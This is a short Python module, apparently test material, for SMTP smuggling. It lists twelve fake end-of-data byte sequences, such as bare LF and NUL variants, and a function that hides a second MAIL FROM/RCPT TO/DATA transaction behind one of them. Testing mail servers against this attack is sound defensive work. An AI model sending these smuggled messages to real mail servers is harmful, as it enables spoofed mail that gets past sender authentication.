"""Messages that smuggle another one behind an end of data that is none."""

# Everything but CRLF.CRLF. "\r\r\n.\r\n" is not among them: it holds the true end.
ENDS = {
    "lf.lf": b"\n.\n",
    "lf.crlf": b"\n.\r\n",
    "crlf.lf": b"\r\n.\n",
    "cr.cr": b"\r.\r",
    "crlf.cr": b"\r\n.\r",
    "lf.cr": b"\n.\r",
    "cr.crlf": b"\r.\r\n",
    "cr.lf": b"\r.\n",
    "crlf.crcrlf": b"\r\n.\r\r\n",
    "lflf.crlf": b"\n\n.\r\n",
    "crlf-nul.crlf": b"\r\n\0.\r\n",
    "crlf.nul-crlf": b"\r\n.\0\r\n",
}


def smuggling(sender: str, end: bytes, tag: str) -> bytes:
    """A message with a second one inside, behind something that looks like an end."""
    inner = f"MAIL FROM:<{sender}>\r\nRCPT TO:<inner.{tag}@customer.example>\r\nDATA\r\nSubject: inner\r\n\r\ninner\r\n"
    return b"Subject: outer\r\n\r\nouter" + end + inner.encode()
